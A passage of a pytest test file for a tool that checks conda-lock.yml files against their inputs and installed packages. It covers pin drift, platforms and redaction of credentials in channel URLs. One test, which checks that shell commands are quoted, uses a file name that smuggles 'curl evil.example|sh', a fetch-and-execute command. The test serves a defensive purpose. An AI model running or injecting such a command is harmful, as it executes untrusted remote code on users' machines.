"""`conda-lock.yml`: found clean, and after each change found what it is."""

from __future__ import annotations

import re
import sys
import time
from datetime import date
from typing import TYPE_CHECKING

import pytest
from condas import (
    ENVIRONMENT,
    GLIBC,
    HEADER,
    JINJA,
    LOCK,
    MARKUP,
    NARWHALS,
    PLOTLY,
    PYTHON,
    CondaCase,
    by_pip,
    digest,
    entry,
    url_of,
)
from judging import Case
from locks import uv_golden
from locks.documents import changed, first_line_of, line_of
from locks.reading import faults, tree
from locks.test_uv_itself import whole

from pytest_envrepro.locks.base import Declaration
from pytest_envrepro.locks.conda import parse
from pytest_envrepro.policy import Policy
from pytest_envrepro.provenance import Recipe
from pytest_envrepro.session import Session

if TYPE_CHECKING:
    from pathlib import Path

    from pytest_envrepro.model import Lock

pytestmark = pytest.mark.requires_integration("conda")

PATH = "conda-lock.yml"
CLEAN: list[tuple[str | None, ...]] = []
INSTALL = 'conda-lock install --prefix "$CONDA_PREFIX" conda-lock.yml'


def case_of(
    folder: Path, lock: str = LOCK, environment: str = ENVIRONMENT, platform: str = "linux-64", **more: str
) -> CondaCase:
    """Give a project with its lock, in which nothing is installed."""
    return CondaCase(folder, {PATH: lock, "environment.yml": environment, **more}, platform)


def read(lock: str = LOCK, **files: str) -> Lock:
    """Read a lock alone, or with inputs."""
    return parse(PATH, tree({PATH: lock, **files}), None)


def test_in_sync(tmp_path: Path) -> None:
    """By its own lists alone, with nothing installed: what is for another platform is no hole."""
    case = case_of(tmp_path)

    assert case.findings("lock", PATH) == CLEAN
    outcome = case.judge("lock", PATH)
    assert (outcome.status, outcome.detail) == (
        "clean",
        "0 of 20 pins proven, 10 by its own lists alone, 10 for other environments",
    )


@pytest.mark.parametrize("check", ["lock", "installed"])
def test_in_sync_and_installed(tmp_path: Path, check: str) -> None:
    """By the records of an environment of conda: packages of conda's and those of pip's beside them."""
    case = case_of(tmp_path)
    case.record_all()

    assert case.findings(check, PATH) == CLEAN
    assert case.judge("lock", PATH).detail == "10 of 20 pins proven, 10 for other environments"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("  - jinja2>=3", "  - jinja2>=3\n  - flask >=3", ("missing-direct", "conda:flask", ">=3", None, "environment.yml:8", "not pinned in conda-lock.yml")),
        ("    - plotly>=6", "    - plotly>=6\n    - httpx", ("missing-direct", "httpx", None, None, "environment.yml:13", "not pinned in conda-lock.yml")),
        ("jinja2>=3", "jinja2>=3.2", ("violated-direct", "conda:jinja2", ">=3.2", "3.1.6=h6fa692b_0", "environment.yml:7", f"conda-lock.yml:{line_of(LOCK, JINJA)} pins 3.1.6=h6fa692b_0")),
        ("python=3.11", "python=3.12", ("violated-direct", "conda:python", "=3.12", "3.11.14=h6fa692b_0", "environment.yml:6", f"conda-lock.yml:{first_line_of(LOCK, '- name: python')} pins 3.11.14=h6fa692b_0")),
        ("jinja2>=3", "jinja2 3.1.6 py_0", ("violated-direct", "conda:jinja2", "3.1.6 py_0", "3.1.6=h6fa692b_0", "environment.yml:7", f"conda-lock.yml:{line_of(LOCK, JINJA)} pins 3.1.6=h6fa692b_0")),
        ("jinja2>=3", "bioconda::jinja2", ("violated-direct", "conda:jinja2", "from bioconda", "3.1.6=h6fa692b_0", "environment.yml:7", f"conda-lock.yml:{line_of(LOCK, JINJA)} pins 3.1.6=h6fa692b_0")),
        ("plotly>=6", "plotly>=7", ("violated-direct", "plotly", ">=7", "6.5.0", "environment.yml:12", f"conda-lock.yml:{line_of(LOCK, PLOTLY)} pins 6.5.0")),
        ("plotly>=6", "plotly>=6\n    - packaging>=26", ("violated-direct", "conda:packaging", ">=26", "25.0=pyhd8ed1ab_0", "environment.yml:13", f"conda-lock.yml:{first_line_of(LOCK, '- name: packaging')} pins 25.0=pyhd8ed1ab_0")),
        ("  - jinja2>=3\n", "", ("orphan", "conda:jinja2", None, "3.1.6=h6fa692b_0", f"conda-lock.yml:{line_of(LOCK, JINJA)}", "nothing needs it")),
        ("  - jinja2>=3", "  - jinja2>=>3", ("unreadable", None, None, None, "environment.yml:7", "'jinja2>=>3' is not a requirement: unable to parse version spec: >=>3")),
        ("  - jinja2>=3", "<<<<<<< ours\n  - jinja2>=3", ("merge-conflict", None, None, None, "environment.yml:7", "a merge conflict begins here")),
        ("  - conda-forge\n", "  - bioconda\n  - conda-forge\n", ("stale-stamp", "channels", None, None, "conda-lock.yml:10", "environment.yml has the channels bioconda, conda-forge, the lock was made with conda-forge: the pins still hold, only the stamp is old")),
    ],
    ids=["added", "added for pip", "tightened", "python", "build", "channel", "tightened for pip", "met by conda", "removed", "no spec", "merge", "channels"],
)  # fmt: skip
def test_input(tmp_path: Path, old: str, new: str, expected: tuple[str | None, ...]) -> None:
    """Each edit of the input is found, at its place."""
    case = case_of(tmp_path, environment=changed(ENVIRONMENT, old, new))

    found = case.findings("lock", PATH)

    assert expected in found
    assert {each[0] for each in found} == {expected[0]}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("jinja2>=3", "Jinja2 >= 3"),
        ("jinja2>=3", "jinja2"),
        ("jinja2>=3", "jinja2=3.1"),
        ("jinja2>=3", "conda-forge::jinja2 >=3,<4"),
        ("jinja2>=3", "jinja2[version='>=3']"),
        ("jinja2>=3", "jinja2[i18n]>=3"),
        ("  - python=3.11\n  - jinja2>=3\n", "  - jinja2>=3\n  - python=3.11\n"),
        ("  - jinja2>=3", "  - jinja2>=3\n  - appnope  # [osx]"),
        ("  - jinja2>=3", "  - jinja2>=3\n  - appnope  # macOS alone [osx]\n  - libgcc-ng  # [linux]"),
        ("  - jinja2>=3", "  - jinja2>=3\n  - cudatoolkit  # [cuda]"),
        ("plotly>=6", "Plotly >= 6"),
        ("plotly>=6", "plotly>=6\n    - colorama; sys_platform == 'win32'"),
        ("plotly>=6", "plotly>=6\n    - -e .\n    - ./other\n    - --no-deps"),
        ("  - pip\n", ""),
    ],
)
def test_input_that_still_fits(tmp_path: Path, old: str, new: str) -> None:
    """Loosened, put in another order, spelled in another way, for another platform: nothing has to be locked again."""
    case = case_of(tmp_path, environment=changed(ENVIRONMENT, old, new))

    assert case.findings("lock", PATH) == CLEAN


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (MARKUP, "", [("missing-transitive", "conda:markupsafe", ">=2.0", None, f"conda-lock.yml:{line_of(LOCK, JINJA)}", "conda:jinja2 3.1.6=h6fa692b_0 needs conda:markupsafe >=2.0")]),
        (MARKUP, entry("markupsafe", "1.1", needs={"libgcc-ng": ">=11.2.0", **PYTHON}), [("violated-transitive", "conda:markupsafe", ">=2.0", "1.1=h6fa692b_0", f"conda-lock.yml:{line_of(LOCK, MARKUP)}", "conda:jinja2 3.1.6=h6fa692b_0 needs conda:markupsafe >=2.0")]),
        (NARWHALS, "", [("missing-transitive", "narwhals", ">=1.15.1", None, f"conda-lock.yml:{line_of(LOCK, PLOTLY) - 10}", "plotly 6.5.0 needs narwhals>=1.15.1")]),
        (NARWHALS, by_pip("narwhals", "1.0"), [("violated-transitive", "narwhals", ">=1.15.1", "1.0", f"conda-lock.yml:{line_of(LOCK, NARWHALS)}", "plotly 6.5.0 needs narwhals>=1.15.1")]),
        (JINJA, JINJA.replace("version: '3.1.6'", "version: '3.1.7'"), [("ambiguous-pin", "conda:jinja2", "==3.1.7", "3.1.6", f"conda-lock.yml:{line_of(LOCK, JINJA)}", f"its 'version' is 3.1.7, and its 'url' is of 3.1.6: {url_of('jinja2', '3.1.6', 'h6fa692b_0', 'linux-64')}")]),
        (PLOTLY, PLOTLY.replace("version: 6.5.0", "version: 6.5.1"), [("ambiguous-pin", "plotly", "==6.5.1", "6.5.0", f"conda-lock.yml:{line_of(LOCK, PLOTLY)}", "its 'version' is 6.5.1, and its 'url' is of 6.5.0: https://index.example/packages/plotly-6.5.0-py3-none-any.whl")]),
        (JINJA, JINJA.replace(f"    md5: {digest('jinja2')}\n    sha256: {digest('jinja2', 'sha256')}\n", "    md5:\n"), [("partial-hashes", "conda:jinja2", None, "3.1.6=h6fa692b_0", f"conda-lock.yml:{line_of(LOCK, JINJA)}", "no hash, though other pins have one: what is installed may be any file")]),
        ("package:\n", "<<<<<<< ours\npackage:\n", [("merge-conflict", None, None, None, "conda-lock.yml:18", "a merge conflict begins here")]),
    ],
    ids=["transitive gone", "past its parent", "gone for pip", "past for pip", "edited", "edited for pip", "no hash", "merge"],
)  # fmt: skip
def test_lock(tmp_path: Path, old: str, new: str, expected: list[tuple[str | None, ...]]) -> None:
    """Each edit of the lock is found by its own lists, with nothing installed."""
    case = case_of(tmp_path, lock=changed(LOCK, old, new))

    assert case.findings("lock", PATH) == expected


def test_gone_with_its_edges(tmp_path: Path) -> None:
    """A package that has left the lists of those that need it too is missed by their records."""
    lock = changed(changed(LOCK, MARKUP, ""), JINJA, entry("jinja2", "3.1.6", needs=PYTHON))
    case = case_of(tmp_path, lock=lock)
    assert case.findings("lock", PATH) == CLEAN

    case.record_all()

    assert [each[:2] for each in case.findings("lock", PATH)] == [("missing-transitive", "conda:markupsafe")]


def test_gone_for_pip_with_its_edges(tmp_path: Path) -> None:
    """The same of a package that pip installs, by its metadata."""
    lock = changed(changed(LOCK, NARWHALS, ""), PLOTLY, by_pip("plotly", "6.5.0", needs={"packaging": "*"}))
    case = case_of(tmp_path, lock=lock)
    case.record_all()

    assert [each[:2] for each in case.findings("lock", PATH)] == [("missing-transitive", "narwhals")]


def test_builds_are_told_apart(tmp_path: Path) -> None:
    """A package may need another in some builds alone: conda's own rules decide."""
    lock = changed(
        LOCK,
        "    markupsafe: '>=2.0'\n    python: '>=3.11,<3.12.0a0'\n  url: https://conda.example/conda-forge/linux-64",
        "    markupsafe: '>=2.0 *_cp311'\n  url: https://conda.example/conda-forge/linux-64",
    )
    case = case_of(tmp_path, lock=lock)

    (found,) = case.findings("lock", PATH)

    assert found[:4] == ("violated-transitive", "conda:markupsafe", ">=2.0 *_cp311", "3.0.2=h6fa692b_0")


@pytest.mark.parametrize("name", ["pytorch", "python-torch", "torch-cpu"])
def test_called_otherwise_by_conda(tmp_path: Path, name: str) -> None:
    """What pip's packages need may come from a package of conda's that is called alike: that is no hole."""
    lock = LOCK + entry(name, "2.3.1", needs=PYTHON) + by_pip("flash-attn", "2.4", needs={"torch": "*"})
    environment = ENVIRONMENT.replace("- jinja2>=3", f"- jinja2>=3\n  - {name}") + "    - flash-attn\n"
    case = case_of(tmp_path, lock=lock, environment=environment)
    assert case.findings("lock", PATH) == CLEAN

    case.write({PATH: lock.replace("    torch: '*'\n", ""), "environment.yml": f"{environment}    - torch>=2\n"})

    assert case.findings("lock", PATH) == CLEAN


@pytest.mark.parametrize("name", ["python-dotenv", "opencv-python", "lib", "kup", "data", "tzd", "safe"])
def test_no_likeness(tmp_path: Path, name: str) -> None:
    """A common word, or some letters of another package's name, bring nothing: what is asked for is missed."""
    case = case_of(
        tmp_path,
        lock=LOCK + by_pip("flash-attn", "2.4", needs={name: "*"}),
        environment=ENVIRONMENT + f"    - {name}\n    - flash-attn\n",
    )
    missing = [("missing-transitive", name), ("missing-direct", name)]
    assert [each[:2] for each in case.findings("lock", PATH)] == missing

    case.record_all()

    assert [each[:2] for each in case.findings("lock", PATH)] == missing


@pytest.mark.parametrize("name", ["pytorch", "python-torch", "torch-cpu"])
def test_likeness_is_no_proof(tmp_path: Path, name: str) -> None:
    """Whether a package that is called alike brings it, its record alone tells; without one that is no green."""
    lock = LOCK + entry(name, "2.3.1", needs=PYTHON) + by_pip("flash-attn", "2.4", needs={"torch": "*"})
    environment = ENVIRONMENT.replace("- jinja2>=3", f"- jinja2>=3\n  - {name}") + "    - flash-attn\n    - torch>=2\n"
    case = case_of(tmp_path, lock=lock, environment=environment)
    case.record_all()

    outcome = case.judge("lock", PATH)

    assert (outcome.status, outcome.reason) == (
        "unchecked",
        f"torch is not pinned, and conda:{name} may bring it: its record tells, where it is installed",
    )
    case.record(name, "2.3.1")
    missing = [("missing-transitive", "torch"), ("missing-direct", "torch")]
    assert [each[:2] for each in case.findings("lock", PATH)] == missing
    case.record(name, "2.3.1", files=("lib/python3.11/site-packages/torch-2.3.1.dist-info/METADATA",))
    assert case.findings("lock", PATH) == CLEAN
    assert case.judge("lock", PATH).status == "clean"


def test_pip_itself(tmp_path: Path) -> None:
    """Where an input has a list for pip, conda-lock adds pip, which nothing else may need."""
    lock = LOCK.replace("    pip: ''\n", "")
    case = case_of(tmp_path, lock=lock, environment=changed(ENVIRONMENT, "  - pip\n", ""))

    assert case.findings("lock", PATH) == CLEAN


def test_names_of_conda_are_its_own(tmp_path: Path) -> None:
    """`typing_extensions` and `typing-extensions` are two packages to conda, and may both be pinned."""
    both = entry("typing-extensions", "4.15.0", needs={"typing_extensions": "4.15.0"}, noarch=True)
    lock = LOCK + both + entry("typing_extensions", "4.15.0", needs={"python": ">=3.9"}, noarch=True)
    case = case_of(
        tmp_path, lock=lock, environment=changed(ENVIRONMENT, "  - pip\n", "  - pip\n  - typing-extensions\n")
    )

    assert case.findings("lock", PATH) == CLEAN


def test_waiver(tmp_path: Path) -> None:
    """A waiver names a package of conda's as the finding does."""
    waiver = '[tool.envrepro]\nwaivers = [{ code = "orphan", package = "conda:Typing_Extensions", reason = "kept" }]\n'
    lock = LOCK + entry("typing_extensions", "4.15.0", needs={"python": ">=3.9"}, noarch=True)
    case = case_of(tmp_path, lock=lock, **{"pyproject.toml": waiver})

    policy = Policy(Session(case.root, configured_by=None, environ={}).config, date(2026, 1, 1), {})

    (found,) = policy.apply(case.judge("lock", PATH)).findings

    assert (found.code, found.package) == ("orphan", "conda:typing_extensions")
    assert found.waived is not None


def test_same_name_in_both(tmp_path: Path) -> None:
    """`graphviz` of conda's is another thing than that of pip's: each is judged for itself."""
    lock = LOCK + entry("graphviz", "12.0") + by_pip("graphviz", "0.20")
    environment = changed(ENVIRONMENT, "  - pip\n", "  - pip\n  - graphviz>=12\n") + "    - graphviz<1\n"

    assert case_of(tmp_path, lock=lock, environment=environment).findings("lock", PATH) == CLEAN


def test_versions_as_poetry_writes_them(tmp_path: Path) -> None:
    """conda-lock writes `1.2` for that version alone, and ranges with `||`."""
    needs = {"narwhals": "2.14.0", "packaging": ">=20,<21.dev0 || >=24.1"}
    lock = changed(LOCK, PLOTLY, by_pip("plotly", "6.5.0", needs=needs))
    assert case_of(tmp_path, lock=lock).findings("lock", PATH) == CLEAN

    (tmp_path / "other").mkdir()
    case = case_of(
        tmp_path / "other", lock=lock.replace("narwhals: '2.14.0'", "narwhals: '2.15.0'").replace(">=24.1", ">=26")
    )

    assert {each[:3] for each in case.findings("lock", PATH)} == {
        ("violated-transitive", "narwhals", "==2.15.0"),
        ("violated-transitive", "conda:packaging", ">=20,<21.dev0|>=26"),
    }


def test_another_platform(tmp_path: Path) -> None:
    """On Windows its own pins are judged: the same edit of Linux's is nothing there."""
    case = case_of(tmp_path, lock=changed(LOCK, MARKUP, ""), platform="win-64")
    assert case.findings("lock", PATH) == CLEAN

    case.write({PATH: re.sub(r"- name: vc\n(?:  .*\n)+", "", LOCK)})

    assert {each[:2] for each in case.findings("lock", PATH)} == {("missing-transitive", "conda:vc")}


@pytest.mark.parametrize("check", ["lock", "installed"])
def test_platform_that_is_not_locked(tmp_path: Path, check: str) -> None:
    """A lock without pins for this platform says nothing here, and that is no green."""
    case = case_of(tmp_path, platform="osx-arm64")

    outcome = case.judge(check, PATH)

    assert (outcome.status, outcome.findings) == ("unchecked", ())
    reasons = {
        "lock": "conda-lock.yml has no pins for this platform: it was compiled for linux-64, win-64",
        "installed": "conda-lock.yml was compiled for linux-64, win-64",
    }
    assert outcome.reason == reasons[check]


@pytest.mark.parametrize("more", [[f"linux-{number}" for number in range(300)], ["linux-" + "9" * 9000]])
def test_any_platforms(tmp_path: Path, more: list[str]) -> None:
    """However many or long they are: of those that are nowhere, nothing is asked."""
    listed = "".join(f"  - {each}\n" for each in more)
    case = case_of(tmp_path, lock=changed(LOCK, "  platforms:\n", f"  platforms:\n{listed}"))

    assert case.findings("lock", PATH) == CLEAN


def test_no_environment_of_conda(tmp_path: Path) -> None:
    """In a virtual environment it is not known what of conda's is installed."""
    outcome = case_of(tmp_path).judge("installed", PATH)

    assert (outcome.status, outcome.reason) == (
        "unchecked",
        "conda-lock.yml pins packages of conda, and this is no environment of conda",
    )


def test_installed_otherwise(tmp_path: Path) -> None:
    """Another version, another build, another archive, nothing at all, and more than is pinned."""
    case = case_of(tmp_path)
    case.record_all()
    folder = case.prefix / "conda-meta"
    for name in ("jinja2-3.1.6", "markupsafe-3.0.2", "tzdata-2025b", "packaging-25.0"):
        next(folder.glob(f"{name}-*")).unlink()
    case.record("jinja2", "3.1.5")
    case.record("markupsafe", "3.0.2", "py311_0")
    case.record(
        "tzdata",
        "2025b",
        "pyhd8ed1ab_0",
        url="https://user:secret@mirror.example/c/noarch/tzdata-2025b-pyhd8ed1ab_0.conda",
        sha256="0" * 64,
    )
    case.record("zlib", "1.3")

    assert "secret" not in repr(case.inventory.others["conda:tzdata"])
    found = case.judge("installed", PATH).findings

    assert [(each.code, each.package, each.expected, each.actual, each.line, each.message, each.fix) for each in found] == [
        ("extraneous", "conda:zlib", None, "1.3=h6fa692b_0", None, "not in conda-lock.yml", "conda remove zlib"),
        ("wrong-version", "conda:jinja2", "=3.1.6=h6fa692b_0", "3.1.5=h6fa692b_0", line_of(LOCK, JINJA), "3.1.5=h6fa692b_0 is installed", INSTALL),
        ("wrong-version", "conda:markupsafe", "=3.0.2=h6fa692b_0", "3.0.2=py311_0", line_of(LOCK, MARKUP), "3.0.2=py311_0 is installed", INSTALL),
        ("not-installed", "conda:packaging", "=25.0=pyhd8ed1ab_0", None, first_line_of(LOCK, "- name: packaging"), "not installed", INSTALL),
        ("wrong-source", "conda:tzdata", "=2025b=pyhd8ed1ab_0", "https://****@mirror.example/c/noarch/tzdata-2025b-pyhd8ed1ab_0.conda", first_line_of(LOCK, "- name: tzdata"), "installed from https://****@mirror.example/c/noarch/tzdata-2025b-pyhd8ed1ab_0.conda", INSTALL),
    ]  # fmt: skip


def test_installed_by_pip(tmp_path: Path) -> None:
    """What pip installs is judged like any lock's pins, and what belongs to a package of conda's is told once."""
    case = case_of(tmp_path)
    case.record_all()
    case.record("zlib-python", "1", files=("lib/python3.11/site-packages/zlib_py-1.0.dist-info/METADATA",))
    case.install("zlib-py", "1.0", installer="conda")
    case.install("stray", "1")

    found = case.findings("installed", PATH)

    assert [each[:2] for each in found] == [
        ("extraneous", "conda:zlib-python"),
        ("extraneous", "stray"),
    ]


def test_never_extraneous(tmp_path: Path) -> None:
    """What brings pip or pytest is in nobody's way, with all that it needs; a record that is broken needs nothing."""
    case = case_of(tmp_path)
    case.record_all()
    site = "lib/python3.11/site-packages"
    case.record("pytest", "9", depends=("pluggy >=1", "gone"), files=(f"{site}/pytest-9.0.dist-info/METADATA",))
    case.install("pytest", "9.0", installer="conda")
    case.record("pluggy", "1.6", depends=("zlib",))
    case.record("zlib", "1.3")
    case.record("setuptools", "80", depends=("zlib >=>3",), files=(f"{site}/setuptools-80.dist-info/METADATA",))
    case.record("stray", "1", depends=("stray-too",))
    case.record("stray-too", "1")

    assert [each[:2] for each in case.findings("installed", PATH)] == [
        ("extraneous", "conda:stray"),
        ("extraneous", "conda:stray-too"),
    ]


def test_categories(tmp_path: Path) -> None:
    """`dev` is installed where nobody says otherwise, other categories where the table names them; one may be in two."""
    table = "[tool.envrepro]\ninstalled = {}\n"
    tools = [
        entry("ruff", "0.5", category="dev"),
        entry("sphinx", "8", category="docs"),
        entry("zlib", "1", category="docs"),
        entry("zlib", "1"),
    ]
    case = case_of(tmp_path, lock=LOCK + "".join(tools), **{"pyproject.toml": table.format(f'["{PATH}"]')})
    case.record_all()

    absent = {}
    for said in (f'["{PATH}"]', f'[{{ lock = "{PATH}", groups = [] }}]', f'[{{ lock = "{PATH}", extras = ["docs"] }}]'):
        case.write({"pyproject.toml": table.format(said)})
        absent[said] = [each[1] for each in case.findings("installed", PATH)]

    assert list(absent.values()) == [
        ["conda:ruff", "conda:zlib"],
        ["conda:zlib"],
        ["conda:ruff", "conda:sphinx", "conda:zlib"],
    ]


@pytest.mark.parametrize(
    ("package", "expected"),
    [
        (MARKUP, ("missing-transitive", "conda:markupsafe", ">=2.0", None, f"conda-lock.yml:{line_of(LOCK, JINJA)}", "conda:jinja2 3.1.6=h6fa692b_0 needs conda:markupsafe >=2.0, which is locked for 'dev' alone")),
        (JINJA, ("missing-direct", "conda:jinja2", ">=3", None, "environment.yml:7", "not pinned in conda-lock.yml for the project itself, but for 'dev'")),
    ],
    ids=["need", "root"],
)  # fmt: skip
def test_locked_for_dev_alone(tmp_path: Path, package: str, expected: tuple[str | None, ...]) -> None:
    """What the project itself needs, and `dev` alone is locked with, is not there where `dev` is not installed."""
    case = case_of(tmp_path, lock=changed(LOCK, package, package.replace("category: main", "category: dev")))
    case.record_all()

    assert case.findings("lock", PATH) == [expected]


def test_python_of_the_lock(tmp_path: Path) -> None:
    """Its pin of Python is what it was made for."""
    case = case_of(tmp_path)
    case.run_on("3.12.1", sys_platform="linux", platform_machine="x86_64")

    found = (
        case.findings("python", "pyproject.toml")
        if (case.root / "pyproject.toml").exists()
        else case.findings("python", PATH)
    )

    assert [each[:4] for each in found] == [("python-mismatch", None, "3.11", "3.12.1")]


def test_supplied_under_another_name(tmp_path: Path) -> None:
    """What lies in an installed package of conda's is known by its files, whatever the package is called."""
    lock = LOCK + entry("arrow-stuff", "1", needs=PYTHON) + by_pip("flash-attn", "2.4")
    environment = changed(ENVIRONMENT, "  - pip\n", "  - pip\n  - arrow-stuff\n") + "    - flash-attn\n"
    case = case_of(tmp_path, lock=lock, environment=environment)
    case.record_all()
    case.install("flash-attn", "2.4", ("torch",))
    case.record("arrow-stuff", "1")
    assert [each[:2] for each in case.findings("lock", PATH)] == [("missing-transitive", "torch")]

    case.record("arrow-stuff", "1", files=("lib/python3.11/site-packages/torch-2.3.1.dist-info/METADATA",))

    assert case.findings("lock", PATH) == CLEAN


def test_leaks(tmp_path: Path) -> None:
    """Credentials and channels of one machine are told once each, and never shown."""
    lock = LOCK + "".join([
        entry("a", "1", url=url_of("a", "1", "0", "noarch", "https://user:secret@conda.example/private")),
        entry("b", "1", url=url_of("b", "1", "0", "noarch", "https://user:secret@conda.example/private")),
        entry("c", "1", url=url_of("c", "1", "0", "noarch", "https://conda.example/t/tk-1234-abcd/private")),
        entry("d", "1", url=url_of("d", "1", "0", "noarch", "file:///home/me/channel")),
        entry("e", "1", url=url_of("e", "1", "0", "noarch", "https://conda.example/t/$CONDA_TOKEN/private")),
    ])  # fmt: skip
    environment = changed(ENVIRONMENT, "  - pip\n", "  - pip\n" + "".join(f"  - {name}\n" for name in "abcde"))
    case = case_of(tmp_path, lock=lock, environment=environment)

    assert [(each[0], each[4], each[5]) for each in case.findings("lock", PATH)] == [
        ("host-leak", f"conda-lock.yml:{line_of(lock, '- name: a')}", "'https://****@conda.example/private' holds a credential: revoke it"),
        ("host-leak", f"conda-lock.yml:{line_of(lock, '- name: c')}", "'https://conda.example/t/****/private' holds a credential: revoke it"),
        ("host-leak", f"conda-lock.yml:{line_of(lock, '- name: d')}", "'file:///home/me/channel' works on one machine only"),
    ]  # fmt: skip


def test_channel_that_is_no_url(tmp_path: Path) -> None:
    """An archive at such a place is not from the channel that an input asks for."""
    lock = LOCK.replace(
        JINJA.partition("url: ")[2].partition("\n")[0], "http://[bad/conda-forge/noarch/jinja2-3.1.6-h6fa692b_0.conda"
    )
    assert lock != LOCK
    case = case_of(tmp_path, lock=lock, environment=changed(ENVIRONMENT, "jinja2>=3", "conda-forge::jinja2"))

    assert [found[:4] for found in case.findings("lock", PATH) if found[1] == "conda:jinja2"] == [
        ("violated-direct", "conda:jinja2", "from conda-forge", "3.1.6=h6fa692b_0")
    ]


def test_leak_of_a_channel(tmp_path: Path) -> None:
    """A channel with a credential is told at its line; where it stands in the input too, both are shown without it."""
    channel = "https://user:secret@conda.example/private"
    case = case_of(tmp_path, lock=changed(LOCK, "- url: conda-forge", f"- url: {channel}"))

    assert [(each[0], each[4], each[5]) for each in case.findings("lock", PATH)] == [
        ("stale-stamp", "conda-lock.yml:10", "environment.yml has the channels conda-forge, the lock was made with https://****@conda.example/private"),
        ("host-leak", "conda-lock.yml:11", "'https://****@conda.example/private' holds a credential: revoke it"),
    ]  # fmt: skip


def test_source_of_another_machine(tmp_path: Path) -> None:
    """A source that is an absolute path is one machine's own; the input beside the lock is what it means."""
    lock = changed(LOCK, "  - environment.yml\n", "  - /Users/me/project/environment.yml\n")
    case = case_of(tmp_path, lock=lock, environment=changed(ENVIRONMENT, "jinja2>=3", "jinja2>=4"))

    assert [each[0] for each in case.findings("lock", PATH)] == ["host-leak", "violated-direct"]
    assert case.facts.locks[PATH].inputs == ("environment.yml",)


def test_sources_of_another_machine() -> None:
    """Each of them is the file of that name beside the lock; where one is not there, no other file stands for it."""
    sources = "  - C:\\me\\environment.yml\n  - /home/me/dev.yml\n  - /home/me/gone.yml\n"
    lock = changed(LOCK, "  - environment.yml\n", sources)

    assert read(lock, **{"environment.yml": ENVIRONMENT, "dev.yml": "dependencies: []\n"}).inputs == (
        "environment.yml",
        "dev.yml",
    )
    assert (
        read(changed(LOCK, "- environment.yml\n", "- /me/gone.yml\n"), **{"environment.yml": ENVIRONMENT}).inputs == ()
    )


def test_inputs(tmp_path: Path) -> None:
    """Its sources are its inputs, wherever it lies; the table goes before them; what cannot be read yet is unchecked."""
    lock = changed(LOCK, "  - environment.yml\n", "  - ../environment.yml\n  - dev.yml\n")
    files = {
        "sub/conda-lock.yml": lock,
        "environment.yml": ENVIRONMENT,
        "sub/dev.yml": "category: dev\ndependencies: [ruff]\n",
    }

    found = parse("sub/conda-lock.yml", tree(files), None)

    assert found.inputs == ("environment.yml", "sub/dev.yml")
    assert found.fix == "conda-lock lock --lockfile sub/conda-lock.yml -f environment.yml -f sub/dev.yml"
    assert {root.part for root in found.roots if root.file == "sub/dev.yml"} == {"dev"}
    told = parse("sub/conda-lock.yml", tree(files), Declaration(inputs=("sub/dev.yml",)))
    assert told.inputs == ("sub/dev.yml",)
    case = case_of(
        tmp_path, lock=changed(LOCK, "  - environment.yml\n", "  - pyproject.toml\n"), **{"pyproject.toml": ""}
    )
    assert case.judge("lock", PATH).reason == "pyproject.toml is an input of conda-lock that cannot be read yet"


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("../../secret.yml", "../../secret.yml"),
        ("sub/../../secret.yml", "sub/../../secret.yml"),
        ("..\\secret.yml", "..\\secret.yml"),
        ("https://user:hunter2@host.example/environment.yml", "https://****@host.example/environment.yml"),
        ("git+https://user:hunter2@host.example/environment.yml", "git+https://****@host.example/environment.yml"),
    ],
)
def test_source_outside_of_the_project(tmp_path: Path, source: str, shown: str) -> None:
    """What is no file of the project is not opened because a lock says so, nor written into a command; the table may."""
    lock = changed(LOCK, "  - environment.yml\n", f"  - environment.yml\n  - {source}\n")
    other = "dependencies:\n  - 'private words'\n"
    case = case_of(tmp_path, lock=lock, **{"../secret.yml": other, "../../secret.yml": other})
    why = f"conda-lock.yml was made from {shown}, which is no file of the project: name its inputs in [[tool.envrepro.locks]]"

    outcome = case.judge("lock", PATH)

    found = case.facts.locks[PATH]
    assert (outcome.status in ("unchecked", "broken"), outcome.judged, outcome.reason) == (True, False, why)
    assert (found.inputs, found.recipe, found.unrecorded, found.fix) == (("environment.yml",), None, why, None)
    assert "private" not in repr(outcome)
    assert "hunter2" not in repr(outcome)
    assert {each.code for each in outcome.findings} <= {"host-leak"}

    told = parse(PATH, tree({PATH: lock, "../secret.yml": other}), Declaration(inputs=("../secret.yml",)))

    assert (told.inputs, told.unread) == (("../secret.yml",), None)


def test_commands_are_quoted() -> None:
    """A name with signs of the shell's is one word of each command that people copy."""
    name = "environment.yml; curl evil.example|sh #"
    lock = changed(LOCK, "  - environment.yml\n", f"  - '{name}'\n")

    found = parse("a b/conda-lock.yml", tree({"a b/conda-lock.yml": lock, f"a b/{name}": ENVIRONMENT}), None)

    assert found.fix == f"conda-lock lock --lockfile 'a b/conda-lock.yml' -f 'a b/{name}'"
    assert found.install == "conda-lock install --prefix \"$CONDA_PREFIX\" 'a b/conda-lock.yml'"


def test_requirements_at_a_url(tmp_path: Path) -> None:
    """`-r` with a URL is not opened, which is said without what is secret in it."""
    case = case_of(tmp_path, environment=ENVIRONMENT + "    - -r https://user:hunter2@host.example/more.txt\n")

    outcome = case.judge("lock", PATH)

    assert (outcome.findings, outcome.reason) == (
        (),
        "environment.yml:13 reads https://****@host.example/more.txt, which is not opened",
    )


def test_requirements_that_an_input_reads(tmp_path: Path) -> None:
    """`-r` in the list for pip is followed, relative to the input."""
    environment = ENVIRONMENT + "    - -r more/requirements.txt\n"
    case = case_of(tmp_path, environment=environment, **{"more/requirements.txt": "narwhals>=3\n"})

    (found,) = case.findings("lock", PATH)

    assert found[:5] == ("violated-direct", "narwhals", ">=3", "2.14.0", "more/requirements.txt:1")


def test_direct_urls(tmp_path: Path) -> None:
    """A commit that pip installs from is compared with where it was installed from."""
    url = "git+https://git.example/tool.git@0123456789012345678901234567890123456789"
    package = re.sub(r"url: .*", f"url: {url}", by_pip("tool", "1"))
    case = case_of(tmp_path, lock=LOCK + package, environment=ENVIRONMENT + f"    - tool @ {url}\n")
    case.record_all()
    case.install("tool", "1")

    assert case.findings("lock", PATH) == CLEAN
    assert [each[:4] for each in case.findings("installed", PATH)] == [("wrong-source", "tool", url, "an index")]


def test_what_it_gives() -> None:
    """The words for people: how it is locked again and how it is installed; and what we run to lock again."""
    lock = read(**{"environment.yml": ENVIRONMENT})

    assert (lock.tool, lock.fix, lock.install) == (
        "conda-lock",
